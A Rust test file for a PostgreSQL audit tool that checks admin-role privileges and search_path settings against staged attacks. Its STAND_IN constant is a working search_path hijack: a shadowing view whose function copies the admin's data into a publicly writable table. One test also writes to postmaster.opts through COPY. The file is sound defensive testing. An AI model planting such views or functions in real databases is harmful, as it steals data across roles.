//! Cases of what the admin role is, and of its search path.

use std::time::{Duration, Instant};

use cupel_tenant::Severity;
use cupel_tenant_db::Audit;
use cupel_testkit::Postgres;
use sqlx::{AssertSqlSafe, Connection, PgConnection};

use super::stage::Shows::Changed;
use super::stage::Who::{A, Admin, Root};
use super::stage::{CASE, Case, Outcome, Stage, play};

/// A view that stands in for the table, and whose function copies what the admin role may read.
const STAND_IN: &str = "CREATE TABLE {bait}.bag (note text); GRANT INSERT ON {bait}.bag TO PUBLIC;
    CREATE FUNCTION {bait}.steal() RETURNS text LANGUAGE plpgsql AS
      $$ BEGIN INSERT INTO {bait}.bag SELECT note FROM public.items; RETURN ''; END $$;
    CREATE VIEW {bait}.items AS SELECT {bait}.steal() AS note;
    GRANT USAGE ON SCHEMA {bait} TO PUBLIC; GRANT SELECT ON {bait}.items TO PUBLIC";

pub(super) const POWERS: &[Case] = &[
    Case {
        rule: "A1",
        severity: Severity::Medium,
        object: "",
        broken: "{admin} ALTER ROLE {adm} SUPERUSER",
        near: "{admin}",
        attack: &[(Admin, "ALTER ROLE {app} BYPASSRLS"), (A, "SELECT note FROM items")],
        ..CASE
    },
    Case {
        rule: "A1",
        severity: Severity::Medium,
        object: "",
        broken: "{admin} ALTER ROLE {adm} CREATEROLE",
        near: "{admin} ALTER ROLE {own} CREATEROLE",
        attack: &[
            (Admin, "CREATE ROLE made_by_{adm}"),
            (Root, "SELECT (count(*) = 1)::text FROM pg_roles WHERE rolname = 'made_by_{adm}'"),
        ],
        shows: Changed,
        ..CASE
    },
    // What a slot keeps of the log, the server cannot let go.
    Case {
        rule: "A1",
        severity: Severity::Medium,
        object: "",
        broken: "{admin} ALTER ROLE {adm} REPLICATION",
        near: "{admin} ALTER ROLE {own} REPLICATION",
        attack: &[
            (Admin, "SELECT pg_create_physical_replication_slot('kept_{adm}', true, true)::text"),
            (
                Root,
                "SELECT (restart_lsn IS NOT NULL)::text FROM pg_replication_slots WHERE slot_name = 'kept_{adm}'",
            ),
        ],
        shows: Changed,
        ..CASE
    },
];

pub(super) const PATHS: &[Case] = &[
    Case {
        rule: "A2",
        severity: Severity::High,
        object: "",
        broken: "{admin}
            CREATE SCHEMA s; GRANT ALL ON SCHEMA s TO {app}; GRANT USAGE ON SCHEMA s TO {adm};
            ALTER ROLE {adm} SET search_path = s, public",
        near: "{admin}
            CREATE SCHEMA s; GRANT ALL ON SCHEMA s TO {app}; ALTER ROLE {adm} SET search_path = s, public",
        attack: &[(A, STAND_IN), (Admin, "SELECT note FROM items"), (A, "SELECT note FROM s.bag")],
        bait: "s",
        ..CASE
    },
    // What a role has for the database comes before what it has everywhere.
    Case {
        rule: "A2",
        severity: Severity::High,
        object: "",
        broken: "{admin}
            CREATE SCHEMA s; GRANT ALL ON SCHEMA s TO {app}, {adm}; ALTER ROLE {adm} SET search_path = public;
            DO $$ BEGIN EXECUTE format('ALTER ROLE {adm} IN DATABASE %I SET search_path = s, public', current_database()); END $$",
        near: "{admin}
            CREATE SCHEMA s; GRANT ALL ON SCHEMA s TO {app}, {adm}; ALTER ROLE {adm} SET search_path = s, public;
            DO $$ BEGIN EXECUTE format('ALTER ROLE {adm} IN DATABASE %I SET search_path = public', current_database()); END $$",
        attack: &[(A, STAND_IN), (Admin, "SELECT note FROM items"), (A, "SELECT note FROM s.bag")],
        bait: "s",
        ..CASE
    },
    // A schema of the role's own name comes first, and whoever may can make it.
    Case {
        rule: "A2",
        severity: Severity::High,
        object: "",
        broken: "{admin}
            DO $$ BEGIN EXECUTE format('GRANT CREATE ON DATABASE %I TO {app}', current_database()); END $$",
        near: "{admin}
            DO $$ BEGIN EXECUTE format('GRANT CREATE ON DATABASE %I TO {app}', current_database()); END $$;
            ALTER ROLE {adm} SET search_path = public",
        attack: &[
            (A, "CREATE SCHEMA {bait}"),
            (A, STAND_IN),
            (Admin, "SELECT note FROM items"),
            (A, "SELECT note FROM {bait}.bag"),
        ],
        bait: "{adm}",
        ..CASE
    },
];

#[tokio::test]
async fn audit_of_the_admin_role_s_powers() -> Outcome<()> {
    play(POWERS).await
}

#[tokio::test]
async fn audit_of_the_admin_role_s_search_path() -> Outcome<()> {
    play(PATHS).await
}

/// What a role finds of the admin role's search path.
async fn found(stage: &Stage, url: &str) -> Outcome<Vec<String>> {
    let audit = Audit::new(url).app_role(&stage.app).admin_role(&stage.text("{adm}"));
    let findings = audit.run().await?.findings;
    let of_path = findings.iter().filter(|it| ["A2", "A3"].contains(&it.rule));
    Ok(of_path.map(|it| format!("{} {}", it.rule, it.severity)).collect())
}

/// Runs statements of which none may stand in a transaction.
async fn each(url: &str, statements: &[&str]) -> Outcome<()> {
    let mut conn = PgConnection::connect(url).await?;
    for statement in statements {
        sqlx::raw_sql(AssertSqlSafe(*statement)).execute(&mut conn).await?;
    }
    Ok(())
}

/// Configures the server, and waits until new sessions see it.
async fn configure(url: &str, path: &str) -> Outcome<()> {
    let set = format!("ALTER SYSTEM SET search_path = {path}");
    each(url, &[&set, "SELECT pg_reload_conf()"]).await?;
    let asker = url.replace("//postgres:postgres@", "//plain:plain@");
    let deadline = Instant::now() + Duration::from_secs(20);
    while Instant::now() < deadline {
        let mut conn = PgConnection::connect(&asker).await?;
        let shown: String = sqlx::query_scalar("SHOW search_path").fetch_one(&mut conn).await?;
        if shown == path {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    Err("the server does not take its configuration".into())
}

#[tokio::test]
pub(super) async fn audit_of_the_admin_role_s_search_path_where_the_server_is_configured_with_it()
-> Outcome<()> {
    // Of its own, for it is configured.
    let server = Postgres::start().await?;
    let stage = Stage::at(server.database().await?).await?;
    stage
        .root(
            "CREATE ROLE plain LOGIN PASSWORD 'plain'; CREATE ROLE own_path LOGIN PASSWORD 'own_path';
             ALTER ROLE own_path SET search_path = pg_catalog; {admin}
             DO $$ BEGIN
               EXECUTE format('GRANT CONNECT ON DATABASE %I TO plain, own_path', current_database());
             END $$;
             CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO {adm}",
        )
        .await?;
    let root = &stage.root_url;
    let as_role = |name: &str| root.replace("postgres:postgres@", &format!("{name}:{name}@"));
    let (plain, own_path) = (as_role("plain"), as_role("own_path"));
    let client = format!("{plain}?options=-c%20search_path%3Dpg_catalog");
    // Whoever can make nothing can put nothing on any path.
    assert_eq!(found(&stage, &own_path).await?, Vec::<String>::new());
    stage.root("GRANT ALL ON SCHEMA s TO {app}").await?;
    configure(root, "public").await?;
    for (url, expected) in
        [(root, &[][..]), (&plain, &[]), (&own_path, &["A3 low"]), (&client, &["A3 low"])]
    {
        assert_eq!(found(&stage, url).await?, expected, "{url}");
    }
    configure(root, "s, public").await?;
    for (url, expected) in
        [(root, "A2 high"), (&plain, "A2 high"), (&own_path, "A3 low"), (&client, "A3 low")]
    {
        assert_eq!(found(&stage, url).await?, [expected], "{url}");
    }
    let case = Case {
        attack: &[(A, STAND_IN), (Admin, "SELECT note FROM items"), (A, "SELECT note FROM s.bag")],
        bait: "s",
        ..CASE
    };
    assert!(stage.attack(&case).await?);
    // A superuser with a path of its own reads the files, and only a command line leaves a doubt.
    each(root, &["ALTER ROLE postgres SET search_path = pg_catalog"]).await?;
    assert_eq!(found(&stage, root).await?, ["A2 high"]);
    let options = "SELECT format('COPY (SELECT %L) TO %L', 'postgres -c search_path=s',
        current_setting('data_directory') || '/postmaster.opts')";
    let mut conn = PgConnection::connect(root).await?;
    let options: String = sqlx::query_scalar(options).fetch_one(&mut conn).await?;
    each(root, &[&options]).await?;
    assert_eq!(found(&stage, root).await?, ["A3 low"]);
    // What the report says puts an end to the doubt, and to the attack.
    let audit = Audit::new(&own_path).app_role(&stage.app).admin_role(&stage.text("{adm}"));
    let fixes = audit.run().await?.fix_sql();
    each(root, &[&fixes, "DROP VIEW s.items; DROP FUNCTION s.steal(); DROP TABLE s.bag"]).await?;
    for url in [root, &plain, &own_path, &client] {
        assert_eq!(found(&stage, url).await?, Vec::<String>::new(), "{url}");
    }
    assert!(!stage.attack(&case).await?);
    server.stop().await?;
    Ok(())
}
